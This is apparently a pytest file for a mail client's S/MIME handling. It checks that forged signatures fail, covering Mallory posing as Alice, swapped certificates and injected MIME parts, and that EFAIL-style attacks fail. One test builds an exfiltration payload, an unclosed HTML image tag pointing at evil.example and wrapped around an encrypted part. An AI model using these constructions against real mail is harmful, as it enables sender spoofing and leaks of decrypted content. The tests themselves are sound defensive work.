"""Signatures that lie: no mail may be said to be signed by somebody who did not write what is shown.

The kinds are those of "Johnny, you are fired!" (USENIX Security 2019): CMS, MIME structure, identity.
Mallory owns an honest certificate for mallory@evil.example and whatever Alice ever signed.
"""

from __future__ import annotations

import base64

import pytest
from asn1crypto import cms, core

from tomail.message.parse import parse
from tomail.message.smime.entity import split, wrapped_in
from tomail.message.smime.keys import OwnKey
from tomail.message.smime.opening import open_part
from tomail.message.smime.sealing import Recipient, encrypt, sign
from tomail.message.smime.signing import signature
from tomail.model.smime import (
    EncryptionState,
    LayerKind,
    SignatureReason,
    SignatureState,
)

from .people import NOW, People
from .written import ALICE, FORGED, GENUINE, MALLORY, opened, signed


def opaque(data: cms.SignedData) -> bytes:
    """An application/pkcs7-mime entity of `data`."""
    made = cms.ContentInfo({"content_type": "signed_data", "content": data}).dump()
    head = b"Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\n"
    return head + b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(made)


def signed_data(key: OwnKey, content: bytes, shown: bytes | None = None) -> cms.SignedData:
    """What `key` signs of `content`, with `shown` embedded (None: nothing)."""
    data = cms.ContentInfo.load(signature(content, key, NOW))["content"].copy()
    if shown is not None:
        data["encap_content_info"] = cms.ContentInfo(
            {"content_type": "data", "content": core.OctetString(shown)}
        )
    return data


def parts(raw: bytes) -> tuple[bytes, bytes, bytes]:
    """Boundary, content and signature entity of a multipart/signed entity."""
    lines, body = split(raw)
    boundary = lines[0].split(b'boundary="')[1].split(b'"')[0]
    _, content, proof, _ = body.split(b"--" + boundary)
    return boundary, content[2:-2], proof[2:-2]


def mixed(*entities: bytes) -> bytes:
    inner = b"".join(b"--mixed\r\n" + each + b"\r\n" for each in entities)
    return b"Content-Type: multipart/mixed; boundary=mixed\r\n\r\n" + inner + b"--mixed--\r\n"


# --- CMS


def test_an_embedded_content_beside_a_detached_one(people: People) -> None:
    """The signature is on what is embedded, the eye is on what stands outside."""
    boundary, _, proof = parts(signed(people))
    data = cms.ContentInfo(
        {"content_type": "signed_data", "content": signed_data(people.alice, GENUINE, GENUINE)}
    )
    head = proof.split(b"\r\n\r\n")[0]
    entity = (
        signed(people).split(b"\r\n\r\n")[0]
        + b"\r\n\r\n"
        + b"\r\n".join(
            [
                b"--" + boundary,
                FORGED,
                b"--" + boundary,
                head,
                b"",
                base64.encodebytes(data.dump()),
                b"--" + boundary + b"--",
            ]
        )
    )
    verdict = opened(people, ALICE + entity)
    assert verdict.signature.reasons == (SignatureReason.CONTENT_MISMATCH,)


def test_no_signer(people: People) -> None:
    data = signed_data(people.alice, FORGED, FORGED)
    data["signer_infos"] = cms.SignerInfos([])
    verdict = opened(people, ALICE + opaque(data))
    assert verdict.signature.state is SignatureState.NONE
    assert verdict.signature.reasons == (SignatureReason.NO_SIGNER,)


def test_certificates_only(people: People) -> None:
    data = signed_data(people.alice, b"")
    data["signer_infos"] = cms.SignerInfos([])
    raw = ALICE + opaque(data).replace(b"signed-data", b"certs-only")
    assert opened(people, raw).signature.state is SignatureState.NONE


@pytest.mark.parametrize("swap", [False, True])
def test_two_signers_of_whom_one_is_right(people: People, swap: bool) -> None:
    data = signed_data(people.alice, FORGED, FORGED)
    theirs = signed_data(people.mallory, FORGED, FORGED)
    infos = [data["signer_infos"][0], theirs["signer_infos"][0]]
    data["signer_infos"] = cms.SignerInfos(infos[::-1] if swap else infos)
    verdict = opened(people, ALICE + opaque(data))
    assert verdict.signature.reasons == (SignatureReason.SEVERAL_SIGNERS,)


def test_the_certificate_of_another(people: People) -> None:
    """Mallory signs, and names Alice's certificate."""
    data = signed_data(people.mallory, FORGED, FORGED)
    alice = signed_data(people.alice, FORGED)
    data["certificates"] = alice["certificates"]
    data["signer_infos"][0]["sid"] = alice["signer_infos"][0]["sid"]
    verdict = opened(people, ALICE + opaque(data))
    assert verdict.signature.state is SignatureState.INVALID
    assert verdict.signature.reasons == (SignatureReason.ATTRIBUTES,)


def test_a_changed_content(people: People) -> None:
    verdict = opened(people, ALICE + opaque(signed_data(people.alice, GENUINE, FORGED)))
    assert verdict.signature.reasons == (SignatureReason.CHANGED,)


def test_a_digest_of_the_new_content_in_attributes_of_the_old(people: People) -> None:
    data = signed_data(people.alice, GENUINE, FORGED)
    other = signed_data(people.mallory, FORGED)["signer_infos"][0]["signed_attrs"]
    kept = [each for each in data["signer_infos"][0]["signed_attrs"] if "certificate" in each["type"].native]
    rest = [each for each in other if "certificate" not in each["type"].native]
    data["signer_infos"][0]["signed_attrs"] = cms.CMSAttributes([*kept, *rest])
    verdict = opened(people, ALICE + opaque(data))
    assert verdict.signature.reasons == (SignatureReason.BROKEN,)


def test_two_digests_of_which_one_is_right(people: People) -> None:
    data = signed_data(people.alice, GENUINE, FORGED)
    forged = signed_data(people.mallory, FORGED)["signer_infos"][0]["signed_attrs"]
    digest = [each for each in forged if each["type"].native == "message_digest"]
    kept = list(data["signer_infos"][0]["signed_attrs"])
    data["signer_infos"][0]["signed_attrs"] = cms.CMSAttributes([*kept, *digest])
    assert opened(people, ALICE + opaque(data)).signature.reasons == (SignatureReason.ATTRIBUTES,)


def test_the_signed_attributes_as_a_content_of_their_own(people: People) -> None:
    """What Alice's signature is made over is itself a content that it is valid for, without attributes."""
    data = signed_data(people.alice, GENUINE)
    attributes = data["signer_infos"][0]["signed_attrs"].untag().dump()
    data["encap_content_info"] = cms.ContentInfo(
        {"content_type": "data", "content": core.OctetString(attributes)}
    )
    info = data["signer_infos"][0]
    data["signer_infos"] = cms.SignerInfos(
        [
            cms.SignerInfo(
                {
                    n: info[n]
                    for n in ("version", "sid", "digest_algorithm", "signature_algorithm", "signature")
                }
            )
        ]
    )
    assert opened(people, ALICE + opaque(data)).signature.reasons == (SignatureReason.ATTRIBUTES,)


# --- MIME structure


def test_a_signed_part_below_a_text_that_is_not(people: People) -> None:
    verdict = opened(people, ALICE + mixed(FORGED, signed(people)))
    assert verdict.signature.state is SignatureState.NONE
    assert verdict.layers == ()
    (part,) = verdict.parts
    assert (part.kind, part.part, part.signature.state) == (LayerKind.SIGNED, 2, SignatureState.VALID)
    alone = open_part(verdict.raw, 2, [], people.verifier, received=NOW)
    assert parse(alone.raw).text.strip() == "Bitte kommen Sie am Montag."


@pytest.mark.parametrize("kind", ["alternative", "related", "mixed", "digest", "report", "parallel"])
def test_no_other_multipart_is_taken_for_a_wrapping(people: People, kind: str) -> None:
    raw = ALICE + mixed(signed(people), FORGED).replace(b"multipart/mixed", b"multipart/" + kind.encode())
    assert opened(people, raw).signature.state is SignatureState.NONE


@pytest.mark.parametrize("at", ["first", "between", "last"])
def test_a_third_part(people: People, at: str) -> None:
    boundary, content, proof = parts(signed(people))
    order = {
        "first": [FORGED, content, proof],
        "between": [content, FORGED, proof],
        "last": [content, proof, FORGED],
    }[at]
    body = b"".join(b"--" + boundary + b"\r\n" + each + b"\r\n" for each in order)
    head = signed(people).split(b"\r\n\r\n")[0] + b"\r\n\r\n"
    verdict = opened(people, ALICE + head + body + b"--" + boundary + b"--\r\n")
    assert verdict.signature.state is SignatureState.INVALID


def test_preamble_and_epilogue_are_not_shown(people: People) -> None:
    head, body = signed(people).split(b"\r\n\r\n", 1)
    raw = ALICE + head + b"\r\n\r\n" + b"5000 Euro\r\n" + body + b"5000 Euro\r\n"
    verdict = opened(people, raw)
    assert verdict.signature.state is SignatureState.VALID
    assert "5000" not in parse(verdict.raw).text


def test_a_signature_of_another_mail(people: People) -> None:
    boundary, _, proof = parts(signed(people))
    head = signed(people).split(b"\r\n\r\n")[0]
    body = b"\r\n".join([b"--" + boundary, FORGED, b"--" + boundary, proof, b"--" + boundary + b"--", b""])
    assert opened(people, ALICE + head + b"\r\n\r\n" + body).signature.reasons == (SignatureReason.CHANGED,)


def test_a_forwarded_signed_mail_is_not_the_senders(people: People) -> None:
    whole = ALICE + signed(people)
    raw = MALLORY + mixed(FORGED, b"Content-Type: message/rfc822\r\n\r\n" + whole)
    verdict = opened(people, raw)
    assert (verdict.layers, verdict.parts) == ((), ())


def test_a_signed_ciphertext_says_nothing_of_the_writer(people: People) -> None:
    """Mallory signs what Alice encrypted for Bob, and could not read."""
    secret = encrypt(GENUINE, [Recipient(people.bob.certificate)])
    verdict = opened(people, MALLORY + sign(secret, people.mallory, NOW))
    assert verdict.encryption.state is EncryptionState.OPENED
    assert verdict.signature.reasons == (SignatureReason.OUTSIDE_ENCRYPTION,)


def test_the_header_of_the_inside_adds_no_sender(people: People) -> None:
    """A From inside the signed entity is neither shown beside the outer one nor in its place."""
    inside = b"From: boss@praxis.example\r\nSubject: Chef\r\n" + FORGED
    verdict = opened(people, MALLORY + sign(inside, people.mallory, NOW))
    shown = parse(verdict.raw)
    assert [each.address for each in shown.sender] == ["mallory@evil.example"]
    assert shown.subject == "Termin"


# --- EFAIL and its kin


def test_an_encrypted_part_beside_a_picture_stays_closed(people: People) -> None:
    secret = encrypt(GENUINE, [Recipient(people.bob.certificate)])
    html = b'Content-Type: text/html\r\n\r\n<img src="https://evil.example/'
    verdict = opened(people, MALLORY + mixed(html, secret, b'Content-Type: text/html\r\n\r\n">'))
    assert verdict.partly_encrypted
    assert not verdict.remote_allowed
    assert [layer.encryption.state for layer in verdict.parts] == [EncryptionState.NOT_TRIED]
    assert b"Montag" not in verdict.raw
    on_demand = open_part(verdict.raw, verdict.parts[0].part or 0, [people.bob], people.verifier)
    assert "Montag" in parse(on_demand.raw).text
    assert not on_demand.remote_allowed


def test_a_lone_encrypted_part_in_a_container_stays_closed(people: People) -> None:
    secret = encrypt(GENUINE, [Recipient(people.bob.certificate)])
    verdict = opened(people, MALLORY + mixed(secret))
    assert verdict.layers == ()
    assert verdict.partly_encrypted


def test_an_encrypted_part_inside_a_decrypted_mail_stays_closed(people: People) -> None:
    secret = encrypt(GENUINE, [Recipient(people.bob.certificate)])
    verdict = opened(people, MALLORY + encrypt(mixed(FORGED, secret), [Recipient(people.bob.certificate)]))
    assert verdict.encryption.state is EncryptionState.OPENED
    assert verdict.partly_encrypted
    assert b"Montag" not in verdict.raw


def _flipped(entity: bytes, part: bytes, at: int) -> bytes:
    """The encrypted `entity` with one bit changed in `part` of its CMS."""
    head, body = entity.split(b"\r\n\r\n", 1)
    data = bytearray(base64.b64decode(body))
    data[data.index(part) + at] ^= 1
    return head + b"\r\n\r\n" + base64.encodebytes(bytes(data))


def _envelope(entity: bytes) -> cms.AuthEnvelopedData:
    return cms.ContentInfo.load(base64.b64decode(entity.split(b"\r\n\r\n", 1)[1]))["content"]


@pytest.mark.parametrize("capabilities", [("aes256_gcm",), ("aes256_gcm", "rsa_oaep")])
@pytest.mark.parametrize("where", ["key", "content", "tag"])
def test_every_broken_ciphertext_looks_the_same(
    people: People, where: str, capabilities: tuple[str, ...]
) -> None:
    """Wrong padding of the key, a wrong key, a changed content, a wrong tag: one state, and nothing more."""
    entity = encrypt(GENUINE, [Recipient(people.bob.certificate, capabilities)])
    envelope = _envelope(entity)
    part = {
        "key": envelope["recipient_infos"][0].chosen["encrypted_key"].native,
        "content": envelope["auth_encrypted_content_info"]["encrypted_content"].native,
        "tag": envelope["mac"].native,
    }[where]
    verdicts = set()
    for at in range(1, len(part), 5):
        raw = MALLORY + _flipped(entity, part, at)
        verdict = opened(people, raw)
        assert verdict.raw == raw
        verdicts.add(verdict.encryption)
    assert [each.state for each in verdicts] == [EncryptionState.FAILED]


@pytest.mark.parametrize("junk", [b"\0\r\n", b"--x\r\n", b"From somebody Sun Nov 22 2026\r\n", b" \r\n"])
def test_whoever_is_compared_is_shown(people: People, junk: bytes) -> None:
    verdict = opened(people, junk + ALICE + signed(people))
    assert verdict.signature.state is SignatureState.VALID
    assert [each.address for each in parse(verdict.raw).sender] == ["alice@praxis.example"]


def test_the_outer_header_is_kept_and_the_inner_is_not() -> None:
    inside = b"Subject: b\r\nContent-Type: text/html\r\n\r\nx"
    assert wrapped_in(b"Subject: a\r\nContent-Type: text/plain\r\n\r\ny", inside) == (
        b"Subject: a\r\nContent-Type: text/html\r\n\r\nx"
    )
